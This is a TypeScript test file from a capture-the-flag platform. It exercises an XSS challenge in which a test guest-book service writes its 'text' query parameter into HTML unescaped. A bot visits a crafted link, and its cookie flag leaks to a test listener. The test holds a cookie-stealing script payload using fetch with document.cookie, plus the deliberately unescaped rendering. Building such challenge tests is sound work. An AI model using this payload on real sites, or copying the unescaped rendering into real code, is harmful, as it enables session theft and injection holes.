import { readFileSync } from 'node:fs'
import { startInstance } from '@pennant/contract/instances.ts'
import { submitFlag } from '@pennant/contract/submissions.ts'
import { expect, test } from 'vitest'
import { sendJson, startHttpService } from '../../server/test/http-service.ts'
import { startStage, visit } from './stage.ts'

const code = readFileSync(new URL('../examples/xss.ts', import.meta.url), 'utf8')

/** An instancer with one instance: the guest book, which writes its input into the page unescaped. */
async function startGuestBook() {
  const book = await startHttpService(({ url }, response) => {
    const text = new URL(url, 'http://book').searchParams.get('text') ?? ''
    response.writeHead(200, { 'content-type': 'text/html' }).end(`<h1>Guest book</h1><p>${text}</p>`)
  })
  const endpoints = [{ kind: 'http', host: '127.0.0.1', port: Number(new URL(book.url).port) }]
  const engine = await startHttpService((_, response) => {
    const details = { status: 'running', timeLeftMilliseconds: 600_000, endpoints }
    sendJson(response, 200, { kind: 'instancerInstanceDetails', ...details })
  })
  return { book, engine }
}

test('a team leaks the flag from the cookie of the bot that visits its instance, and solves the challenge', async () => {
  const { book, engine } = await startGuestBook()
  await using _book = book
  await using _engine = engine
  await using listener = await startHttpService((_, response) => void response.end('thanks'))
  await using stage = await startStage({
    config: {
      instancers: { main: { name: 'instancers/http', options: { apiUrl: engine.url, authToken: 'x' } } },
    },
    // The team's listener is on the internet; the instance needs no entry.
    env: { ALLOW_PRIVATE: new URL(listener.url).host },
  })
  const { contest } = stage
  const expose = [{ kind: 'http', hostPrefix: 'book', containerName: 'book', containerPort: 80 }]
  const instancerConfig = {
    challengeIntegrationId: 'book',
    instancer: 'main',
    config: {},
    timeoutMilliseconds: 600_000,
    expose,
  }
  const flags = [{ provider: 'flags/dynamic', config: { base: 'flag{stored in a cookie}', mode: 'tail' } }]
  await stage.addChallenge('book', code, { instancerConfig, flags })
  const team = await contest.team()
  const params = { id: 'book' }
  expect(await contest.call(startInstance, { token: team.token, params, body: {} })).toMatchObject({
    data: { status: 'running' },
  })

  const script = `<script>fetch('${listener.url}/?'+document.cookie,{mode:'no-cors'})</script>`
  const link = `${book.url}/?text=${encodeURIComponent(script)}`
  const visited = await visit(stage, 'book', { team, inputs: { url: link } })
  expect(visited).toMatchObject({ status: 'completed' })
  expect(visited.lines.map(({ prefix, line }) => `${prefix} ${line}`)).toEqual([
    `navigation ${new URL(link).href}`,
    'challenge The admin looks at the page.',
  ])
  const leaked = listener.asked.map(({ url }) => new URL(url, listener.url).search).find((search) => search)
  const flag = decodeURIComponent(decodeURIComponent(leaked?.replace('?flag=', '') ?? ''))
  expect(flag).toMatch(/^flag\{stored in a cookie/)
  const result = await contest.call(submitFlag, { token: team.token, params, body: { flag } })
  expect(result).toMatchObject({ kind: 'goodFlag' })
})
